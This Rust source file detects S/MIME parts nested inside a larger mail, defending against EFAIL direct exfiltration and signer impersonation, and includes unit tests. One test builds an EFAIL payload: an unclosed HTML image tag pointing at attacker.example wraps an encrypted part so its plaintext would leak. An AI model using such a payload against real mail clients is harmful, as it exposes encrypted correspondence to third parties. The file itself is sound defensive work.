//! Cryptography that is not the outermost layer: parts of S/MIME among other parts.
//!
//! Splicing a decrypted part into the mail around it lets whoever wrote the mail around it read it
//! (EFAIL, direct exfiltration), and showing a mail as signed because one part of it is lets them
//! speak in the signer's name. So such parts are found and named, and each stays a mail of its own.

use super::cms_part::is_cms;
use super::{MailError, Part};

/// A part of S/MIME below the top level.
#[derive(Clone, Debug)]
pub struct NestedCms<'p, 'a> {
    /// The way to it: the number of the child, from 1, on each level.
    pub path: Vec<usize>,
    /// The part itself.
    pub part: &'p Part<'a>,
    /// What it is.
    pub kind: NestedKind,
    /// Whether it belongs to a message that this mail carries, as a forwarded one: its signature
    /// then says nothing about this mail.
    pub inside_message: bool,
    /// Whether there is anything else in the mail that a reader would see.
    pub has_company: bool,
}

/// What a nested part of S/MIME is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum NestedKind {
    /// One CMS object, perhaps encrypted.
    Cms,
    /// A multipart/signed.
    Signed,
}

/// Every part of S/MIME below the top level of a mail, the outermost of each branch only.
///
/// # Errors
/// [`MailError::TooManyParameters`].
pub fn nested_cms<'p, 'a>(root: &'p Part<'a>) -> Result<Vec<NestedCms<'p, 'a>>, MailError> {
    let parts = root.walk();
    let mut found: Vec<NestedCms<'p, 'a>> = Vec::new();
    for (path, part) in &parts {
        let Some(kind) = kind(part)? else { continue };
        let is_inner = found.iter().any(|outer| path.starts_with(&outer.path));
        if path.is_empty() || is_inner {
            continue;
        }
        let is_around = |way: &[usize]| path.starts_with(way) && way.len() < path.len();
        let inside_message =
            parts.iter().any(|(way, part)| is_around(way) && part.content_type().media_type() == "message");
        let has_company = parts.iter().any(|(way, part)| {
            !part.is_container() && !way.starts_with(path) && !part.body().trim_ascii().is_empty()
        });
        found.push(NestedCms { path: path.clone(), part, kind, inside_message, has_company });
    }
    Ok(found)
}

fn kind(part: &Part<'_>) -> Result<Option<NestedKind>, MailError> {
    if part.content_type().is("multipart/signed") {
        return Ok(Some(NestedKind::Signed));
    }
    Ok(is_cms(part.content_type(), part.headers())?.then_some(NestedKind::Cms))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn found(mail: &str) -> Vec<(Vec<usize>, NestedKind, bool, bool)> {
        let root = Part::read(mail.as_bytes()).unwrap();
        nested_cms(&root)
            .unwrap()
            .into_iter()
            .map(|nested| (nested.path, nested.kind, nested.inside_message, nested.has_company))
            .collect()
    }

    #[test]
    fn an_encrypted_part_between_others_is_found() {
        let mail = "Content-Type: multipart/mixed; boundary=a\n\n--a\nContent-Type: text/html\n\n\
            <img src=\"https://attacker.example/\n--a\nContent-Type: application/pkcs7-mime\n\nMAA=\n--a\n\
            Content-Type: text/html\n\n\">\n--a--\n";
        assert_eq!(found(mail), [(vec![2], NestedKind::Cms, false, true)]);
    }

    #[test]
    fn a_mail_that_is_encrypted_as_a_whole_has_nothing_nested() {
        assert_eq!(found("Content-Type: application/pkcs7-mime\n\nMAA=\n"), []);
    }

    #[test]
    fn a_forwarded_signature_is_the_forwarded_mails() {
        let mail = "Content-Type: multipart/mixed; boundary=a\n\n--a\n\nSee below.\n--a\n\
            Content-Type: message/rfc822\n\nContent-Type: multipart/signed; boundary=b\n\n--b\n\nx\n--b--\n\n--a--\n";
        assert_eq!(found(mail), [(vec![2, 1], NestedKind::Signed, true, true)]);
    }

    #[test]
    fn a_signed_part_alone_in_a_wrapper_has_no_company() {
        let mail = "Content-Type: multipart/mixed; boundary=a\n\n--a\n\
            Content-Type: multipart/signed; boundary=b\n\n--b\n\nx\n--b--\n\n--a--\n";
        assert_eq!(found(mail), [(vec![1], NestedKind::Signed, false, false)]);
    }
}
